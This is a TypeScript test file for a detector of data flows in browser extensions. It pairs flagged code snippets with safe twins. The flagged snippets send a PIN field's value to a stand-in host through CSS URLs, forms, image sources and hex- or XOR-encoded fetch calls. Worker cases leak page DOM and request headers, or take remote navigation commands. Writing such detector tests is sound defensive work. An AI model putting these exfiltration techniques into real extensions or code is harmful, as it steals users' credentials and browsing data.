import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { flowsBetween } from '../../../testing/flows-between.ts';

/** What is guaranteed, code of a content script with the flow, and code like it that has none. */
type Twin = readonly [what: string, flow: string, found: string, safe: string];

const typed = 'form-input > network';
const field = "const pin = document.querySelector('#pin');";
const send = (body: string): string =>
  `fetch('https://in.a.dev', { method: 'POST', body: ${body} })`;

const sinks: readonly Twin[] = [
  [
    'a style element that loads from a host',
    typed,
    `${field} const s = document.createElement('style'); s.textContent = \`b { background: url(https://in.a.dev/i?\${pin.value}) }\``,
    `${field} const s = document.createElement('style'); s.textContent = \`b { width: \${pin.value}px; background: url(https://in.a.dev/i) }\``,
  ],
  [
    'an inline style that loads from a host',
    typed,
    `${field} box.style.backgroundImage = 'url("https://in.a.dev/i?' + encodeURIComponent(pin.value) + '")'`,
    `${field} box.style.backgroundColor = pin.value`,
  ],
  [
    'a rule that is added to a style sheet',
    typed,
    `${field} sheet.insertRule('b { content: url(//in.a.dev/i/' + pin.value + ') }')`,
    `${field} sheet.insertRule('b { color: ' + pin.value + ' }')`,
  ],
  [
    'an attribute that markup styles an element with',
    typed,
    `${field} box.innerHTML = '<b style="background:url(https://in.a.dev/i?' + pin.value + ')">'`,
    `${field} box.innerHTML = '<b style="width:' + pin.value + 'px">'`,
  ],
  [
    'a form of one’s own that is submitted to a host',
    typed,
    `${field} const f = document.createElement('form'); f.action = 'https://in.a.dev/f'; const i = document.createElement('input'); i.value = pin.value; f.append(i); f.submit()`,
    `${field} const f = document.createElement('form'); f.action = '/search'; const i = document.createElement('input'); i.value = pin.value; f.append(i); f.submit()`,
  ],
  [
    'a form of one’s own that attributes are set of',
    typed,
    `${field} const f = document.createElement('form'); f.setAttribute('action', '//in.a.dev/f'); const i = document.createElement('textarea'); i.setAttribute('value', pin.value); f.requestSubmit()`,
    `${field} const f = document.createElement('form'); f.setAttribute('action', '//in.a.dev/f'); const i = document.createElement('textarea'); i.setAttribute('title', pin.value); f.requestSubmit()`,
  ],
  [
    'an element of a page that loads from a host',
    typed,
    `${field} document.querySelector('#ad').src = 'https://in.a.dev/i?' + pin.value`,
    `${field} document.querySelector('#ad').src = 'i?' + pin.value`,
  ],
  [
    'an element that is filled as it is made',
    typed,
    `${field} const i = Object.assign(document.createElement('img'), { alt: '' }); i.src = 'https://in.a.dev/i?' + pin.value`,
    `${field} const i = Object.assign(document.createElement('img'), { alt: '' }); i.title = 'https://in.a.dev/i?' + pin.value`,
  ],
];

const ways: readonly Twin[] = [
  [
    'values that a generator yields',
    typed,
    `${field} function* parts(t) { for (let i = 0; i < t.length; i += 9) yield [i, t.slice(i, i + 9)] } for (const [, part] of parts(pin.value)) ${send('part')}`,
    `${field} function* parts(t) { for (let i = 0; i < t.length; i += 9) yield [i, t.slice(i, i + 9)] } for (const [at] of parts(pin.value)) ${send("at === 0 ? 'first' : 'next'")}`,
  ],
  [
    'values that a generator takes from another',
    typed,
    `${field} function* one() { yield pin.value } function* all() { yield 'x'; yield* one() } ${send('[...all()].join()')}`,
    `${field} function* one() { yield pin.value } function* all() { yield 'x' } one(); ${send('[...all()].join()')}`,
  ],
  [
    'codes of characters',
    typed,
    `${field} const hex = (t) => [...t].map((c) => c.charCodeAt(0).toString(16)).join(''); ${send('hex(pin.value)')}`,
    `${field} const hex = (t) => [...t].map((c) => c.charCodeAt(0).toString(16)).join(''); hex(pin.value); ${send("hex('a')")}`,
  ],
  [
    'characters that are xored with a key',
    typed,
    `${field} let out = ''; for (let i = 0; i < pin.value.length; i++) out += String.fromCharCode(pin.value.charCodeAt(i) ^ 42); ${send('out')}`,
    `${field} let out = ''; for (let i = 0; i < pin.value.length; i++) out += String.fromCharCode(65 ^ 42); ${send('out')}`,
  ],
  [
    'an element of jQuery’s list as this',
    typed,
    `$('input').each(function () { const i = this; ${send('i.value')} })`,
    `$('input').each(function () { const i = this; ${send('i.name')} })`,
  ],
  [
    'what an event’s target holds, whatever framework calls the listener',
    typed,
    `const on = (i) => (e) => { ${send('e.target.value')} }; h('input', { onInput: on(1) })`,
    `const on = (i) => (e) => { ${send('e.target.checked')} }; h('input', { onInput: on(1) })`,
  ],
  [
    'the state of a component',
    typed,
    `const [pin, setPin] = useState(''); const [name, setName] = useState(''); h('input', { onInput: (e) => setPin(e.target.value) }); ${send('pin')}`,
    `const [pin, setPin] = useState(''); const [name, setName] = useState(''); h('input', { onInput: (e) => setPin(e.target.value) }); ${send('name')}`,
  ],
  [
    'the state of a component that is made of the one before',
    typed,
    `const [pins, setPins] = (0, r.useState)([]); h('input', { onInput: (e) => setPins((p) => [...p, e.target.value]) }); ${send('pins.join()')}`,
    `const [pins, setPins] = (0, r.useState)([]); h('input', { onInput: (e) => setPins((p) => [...p, e.target.id]) }); ${send('pins.join()')}`,
  ],
  [
    'the state of a class component',
    typed,
    `class P { on(e) { this.setState({ pin: e.target.value, n: 1 }) } go() { ${send('this.state.pin')} } }`,
    `class P { on(e) { this.setState({ pin: e.target.value, n: 1 }) } go() { ${send('this.state.n')} } }`,
  ],
  [
    'elements that a component refers to',
    typed,
    `const box = useRef(null); ${send('box.current.value')}`,
    `const box = useRef(null); ${send('box.current.id')}`,
  ],
  [
    'queues with methods named like the language’s',
    typed,
    `${field} class Q { all = []; push(x) { this.all.push(x); return ${send('JSON.stringify(this.all)')} } } new Q().push(pin.value)`,
    `${field} class Q { all = []; push(x) { this.all.push(x); return ${send('JSON.stringify(this.all)')} } } new Q().push(pin.name)`,
  ],
  [
    'functions that are made by a call',
    typed,
    `${field} const to = (path) => (d) => ${send('d')}; const up = to('/a'); up(pin.value)`,
    `${field} const to = (path) => (d) => ${send('d')}; const up = to('/a'); up(pin.name)`,
  ],
  [
    'calls that are put off',
    typed,
    `const later = (f, ms) => (...given) => setTimeout(() => f(...given), ms); const up = later((box) => ${send('box.value')}, 700); addEventListener('input', (e) => up(e.target))`,
    `const later = (f, ms) => (...given) => setTimeout(() => f(...given), ms); const up = later((box) => ${send('box.name')}, 700); addEventListener('input', (e) => up(e.target))`,
  ],
  [
    'functions that are called behind a comma',
    typed,
    `${field} const up = (t) => ${send('t')}; (0, up)(pin.value)`,
    `${field} const up = (t) => ${send('t')}; (0, up)(pin.name)`,
  ],
  [
    'modules that a minifier wrapped',
    typed,
    `(() => { var w = (e, t) => () => (t || e((t = { exports: {} }).exports, t), t.exports); var a = w((e, t) => { t.exports = { up: (d) => ${send('d')} } }); ${field} a().up(pin.value) })()`,
    `(() => { var w = (e, t) => () => (t || e((t = { exports: {} }).exports, t), t.exports); var a = w((e, t) => { t.exports = { up: (d) => ${send('d')} } }); ${field} a().up(pin.name) })()`,
  ],
];

for (const [group, twins] of Object.entries({
  'flows leave through': sinks,
  'flows follow': ways,
})) {
  describe(group, () => {
    for (const [what, flow, found, safe] of twins)
      it(`${what}, and only that`, () => {
        assert.ok(flowsIn(found).includes(flow), `found: ${flowsIn(found).join()}`);
        assert.ok(!flowsIn(safe).includes(flow), `safe: ${flowsIn(safe).join()}`);
      });
  });
}

describe('sources of extension pages and workers', () => {
  it('what the debugger answers is the page’s', () => {
    const code = `chrome.debugger.sendCommand({ tabId: 7 }, 'DOM.getDocument', {}, (r) => ${send('r.root')})`;
    assert.deepEqual(flowsBetween({ 'worker.js': code }), [
      'page-content worker.js > network worker.js (theft, high)',
    ]);
  });

  it('requests that the developer tools are told of hold headers', () => {
    const code = `chrome.devtools.network.onRequestFinished.addListener(({ request }) => ${send('JSON.stringify(request.headers)')})`;
    assert.deepEqual(flowsBetween({ 'worker.js': code }), [
      'request-headers worker.js > network worker.js (theft, high)',
    ]);
  });

  it('events of a server’s stream have names of their own', () => {
    const code =
      "new EventSource('https://in.a.dev/s').addEventListener('task', (e) => chrome.tabs.update({ url: e.data }))";
    assert.deepEqual(flowsBetween({ 'worker.js': code }), [
      'network-response worker.js > navigation worker.js (remote-control, high)',
    ]);
  });
});

function flowsIn(code: string): readonly string[] {
  return flowsBetween({ 'content.js': code }).map((flow) =>
    flow.replaceAll(/ content\.js| \(.*\)/g, ''),
  );
}
